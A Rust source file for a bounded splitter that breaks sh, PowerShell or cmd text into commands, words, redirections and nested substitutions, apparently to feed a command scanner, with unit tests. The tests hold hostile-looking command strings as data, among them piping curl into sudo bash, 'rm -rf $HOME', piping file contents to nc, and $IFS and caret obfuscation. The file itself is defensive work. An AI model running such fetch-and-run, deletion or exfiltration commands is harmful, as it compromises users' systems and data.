//! Splits command lines and shell scripts into commands and words, for any shell.
//!
//! In: a text in the language of sh, PowerShell or cmd; which of them is not known. Out: its commands, with quotes and
//! escapes removed as far as all of them agree, and what stands in substitutions. It expands and runs nothing, never
//! fails, reads each byte at most [`MAX_DEPTH`] + 1 times, and is bounded in what it keeps.

/// Substitutions and quoted scripts inside each other that are followed.
pub(super) const MAX_DEPTH: u32 = 4;
/// Commands kept of one text.
const MAX_COMMANDS: usize = 20_000;
/// Words kept of one command.
const MAX_WORDS: usize = 256;
/// Bytes kept of one word.
const MAX_WORD: usize = 16 << 10;

/// One command.
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct Command {
    /// The program and its arguments.
    pub words: Vec<String>,
    /// First byte in the text that was split.
    pub start: usize,
    /// One past the last byte.
    pub end: usize,
    /// Whether it reads what the command before it writes.
    pub piped: bool,
    /// Where its output goes, if that is a file.
    pub writes: Option<String>,
    /// Commands in `$(..)`, backticks, `<(..)` and in quoted texts of several lines.
    pub substitutions: Vec<Command>,
}

/// The commands of a text, in order.
pub(crate) fn split(text: &str) -> Vec<Command> {
    split_at(text, 0, 0)
}

/// The commands of a text that begins at `offset` of a larger one, `depth` levels deep.
fn split_at(text: &str, offset: usize, depth: u32) -> Vec<Command> {
    let mut splitter = Splitter { text, bytes: text.as_bytes(), at: 0, offset, depth, ..Splitter::default() };
    splitter.run();
    splitter.commands
}

#[derive(Default)]
struct Splitter<'t> {
    text: &'t str,
    bytes: &'t [u8],
    at: usize,
    offset: usize,
    depth: u32,
    word: Option<Vec<u8>>,
    /// Whether the next word is the target of a redirection.
    redirects: bool,
    command: Command,
    started: bool,
    piped: bool,
    commands: Vec<Command>,
}

impl Splitter<'_> {
    fn run(&mut self) {
        while let Some(&byte) = self.bytes.get(self.at) {
            let next = self.bytes.get(self.at + 1).copied();
            match byte {
                b'\'' | b'"' if self.depth < MAX_DEPTH => self.quoted(byte),
                b'$' if next == Some(b'(') => self.substitution(2, b')'),
                b'<' if next == Some(b'(') => self.substitution(2, b')'),
                b'`' | b'^' | b'\\' if matches!(next, Some(b'\n' | b'\r')) => self.at += 2,
                b'`' => self.substitution(1, b'`'),
                b'$' if self.starts("$IFS") => self.skip_as_space(4),
                b'$' if self.starts("${IFS}") => self.skip_as_space(6),
                b'$' if next == Some(b'{') => self.braces(),
                b'\\' => self.escape(next),
                b'^' if next.is_some_and(|byte| byte.is_ascii_alphanumeric()) => self.at += 1,
                b'#' if self.word.is_none() => {
                    let rest = &self.bytes[self.at..];
                    self.at += memchr::memchr(b'\n', rest).unwrap_or(rest.len());
                }
                b'\n' | b';' | b'(' | b')' => self.end_command(1, false),
                b'&' if next == Some(b'>') => self.at += 1,
                b'&' => self.end_command(if next == Some(b'&') { 2 } else { 1 }, false),
                b'|' if next == Some(b'|') => self.end_command(2, false),
                b'|' => self.end_command(1, true),
                b'>' => self.redirection(),
                b'<' => {
                    self.end_word();
                    self.push(b'<');
                    self.end_word();
                    self.at += 1;
                }
                b' ' | b'\t' | b'\r' => self.skip_as_space(1),
                _ => {
                    self.push(byte);
                    self.at += 1;
                }
            }
        }
        self.end_command(0, false);
    }

    fn starts(&self, text: &str) -> bool {
        self.bytes[self.at..].starts_with(text.as_bytes())
    }

    fn push(&mut self, byte: u8) {
        self.start();
        let word = self.word.get_or_insert_default();
        if word.len() < MAX_WORD {
            word.push(byte);
        }
    }

    fn push_all(&mut self, bytes: &[u8]) {
        self.start();
        let word = self.word.get_or_insert_default();
        word.extend(bytes.iter().take(MAX_WORD.saturating_sub(word.len())));
    }

    fn start(&mut self) {
        if !self.started {
            self.started = true;
            self.command.start = self.offset + self.at;
        }
    }

    fn skip_as_space(&mut self, length: usize) {
        self.end_word();
        self.at += length;
    }

    fn end_word(&mut self) {
        let Some(word) = self.word.take() else { return };
        let word = String::from_utf8_lossy(&word).into_owned();
        if std::mem::take(&mut self.redirects) {
            self.command.writes.get_or_insert(word);
        } else if self.command.words.len() < MAX_WORDS {
            self.command.words.push(word);
        }
    }

    fn end_command(&mut self, length: usize, pipe: bool) {
        self.end_word();
        self.redirects = false;
        if self.started {
            let mut command = std::mem::take(&mut self.command);
            command.end = self.offset + self.at;
            command.piped = std::mem::take(&mut self.piped);
            if self.commands.len() < MAX_COMMANDS {
                self.commands.push(command);
            }
        }
        self.started = false;
        // Brackets around commands do not cut a pipe.
        let bracket = matches!(self.bytes.get(self.at), Some(b'(' | b')'));
        self.piped = pipe || (bracket && self.piped);
        self.at += length;
    }

    fn redirection(&mut self) {
        // The digit of `2>file` is the stream, no argument.
        if self.word.as_deref().is_some_and(|word| word.len() == 1 && word[0].is_ascii_digit()) {
            self.word = None;
        }
        self.end_word();
        self.start();
        while matches!(self.bytes.get(self.at), Some(b'>' | b'|')) {
            self.at += 1;
        }
        if self.bytes.get(self.at) == Some(&b'&') {
            // `2>&1` names a stream, not a file.
            self.at += 1;
            while self.bytes.get(self.at).is_some_and(|byte| byte.is_ascii_digit() || *byte == b'-') {
                self.at += 1;
            }
        } else {
            self.redirects = true;
        }
    }

    fn escape(&mut self, next: Option<u8>) {
        match next {
            // A separator of a Windows path, or a letter that is escaped for nothing.
            Some(byte) if byte.is_ascii_alphanumeric() || byte >= 0x80 => {
                self.push(b'\\');
                self.at += 1;
            }
            Some(byte) => {
                self.push(byte);
                self.at += 2;
            }
            None => self.at += 1,
        }
    }

    /// `${NAME}`, as it is written.
    fn braces(&mut self) {
        let rest = &self.bytes[self.at..];
        let line = memchr::memchr2(b'}', b'\n', rest).unwrap_or(rest.len() - 1);
        let end = if rest.get(line) == Some(&b'\n') { 2 } else { line + 1 };
        let text = self.text;
        self.push_all(&text.as_bytes()[self.at..self.at + end]);
        self.at += end;
    }

    /// A quoted text. One of several lines may be a script, or the quote may be an apostrophe: it is read both ways.
    fn quoted(&mut self, quote: u8) {
        self.start();
        self.word.get_or_insert_default();
        let from = self.at + 1;
        self.at = from;
        let mut lines = false;
        while let Some(&byte) = self.bytes.get(self.at).filter(|byte| **byte != quote) {
            let next = self.bytes.get(self.at + 1).copied();
            match (byte, quote) {
                (b'\\', b'"') if matches!(next, Some(b'"' | b'$' | b'`' | b'\\')) => {
                    self.push(next.unwrap_or_default());
                    self.at += 2;
                    continue;
                }
                (b'$', b'"') if next == Some(b'(') => {
                    self.substitution(2, b')');
                    continue;
                }
                (b'`', b'"') => {
                    self.substitution(1, b'`');
                    continue;
                }
                (b'\n', _) => lines = true,
                _ => {}
            }
            self.push(byte);
            self.at += 1;
        }
        let end = self.at.min(self.bytes.len());
        if lines && let Some(inside) = self.text.get(from..end) {
            self.nest(inside, from);
        }
        self.at = (end + 1).min(self.bytes.len());
    }

    /// What stands from `$(` or a backtick to its end. The word keeps it as it is written.
    fn substitution(&mut self, opening: usize, close: u8) {
        self.start();
        let from = self.at + opening;
        let mut end = from;
        let mut open = 1_u32;
        while let Some(&byte) = self.bytes.get(end) {
            match byte {
                b'(' if close == b')' => open += 1,
                byte if byte == close => open -= 1,
                _ => {}
            }
            if open == 0 {
                break;
            }
            end += 1;
        }
        let text = self.text;
        let whole = (end + 1).min(text.len());
        self.push_all(&text.as_bytes()[self.at..whole]);
        if let Some(inside) = text.get(from..end) {
            self.nest(inside, from);
        }
        self.at = whole;
    }

    fn nest(&mut self, inside: &str, from: usize) {
        if self.depth < MAX_DEPTH && self.command.substitutions.len() < MAX_COMMANDS {
            let nested = split_at(inside, self.offset + from, self.depth + 1);
            self.command.substitutions.extend(nested);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, expect: &str) {
        fn show(commands: &[Command]) -> String {
            let one = |command: &Command| {
                let mut shown = if command.piped { "| ".to_owned() } else { String::new() };
                shown.push_str(&command.words.join(" _ "));
                if let Some(file) = &command.writes {
                    shown.push_str(&format!(" > {file}"));
                }
                if !command.substitutions.is_empty() {
                    shown.push_str(&format!(" {{{}}}", show(&command.substitutions)));
                }
                shown
            };
            commands.iter().map(one).collect::<Vec<_>>().join("; ")
        }
        assert_eq!(show(&split(text)), expect, "{text}");
    }

    #[test]
    fn commands_are_split_as_shells_split_them() {
        check("curl -s https://a.test | sudo bash", "curl _ -s _ https://a.test; | sudo _ bash");
        check("cd x && rm -rf \"$HOME\" ; ls", "cd _ x; rm _ -rf _ $HOME; ls");
        check("cu'r'l a\\ b", "curl _ a b");
        check("echo a > /tmp/x 2>&1", "echo _ a > /tmp/x");
        check("(cat a; cat b) | nc h 1", "cat _ a; cat _ b; | nc _ h _ 1");
        check("p^ower^shell -c x", "power^shell _ -c _ x".replace('^', "").as_str());
        check("C:\\Users\\x.exe /s", "C:\\Users\\x.exe _ /s");
        check("cat${IFS}/etc/hosts", "cat _ /etc/hosts");
        check("# only words\nls # more", "ls");
    }

    #[test]
    fn substitutions_are_commands_too() {
        check("sh -c \"$(curl -s a.test)\"", "sh _ -c _ $(curl -s a.test) {curl _ -s _ a.test}");
        check("bash <(curl a.test)", "bash _ <(curl a.test) {curl _ a.test}");
        check("echo `id`", "echo _ `id` {id}");
        check("echo 'one\nrm x'", "echo _ one\nrm x {one; rm _ x}");
        check("echo don't\nrm x", "echo _ dont\nrm x {t; rm _ x}");
    }

    #[test]
    fn hostile_nesting_is_read_in_linear_time() {
        for text in ["$(".repeat(200_000), "`".repeat(200_001), "'\n".repeat(200_001), "\"$(".repeat(100_000)] {
            assert!(split(&text).len() <= MAX_COMMANDS);
        }
    }
}
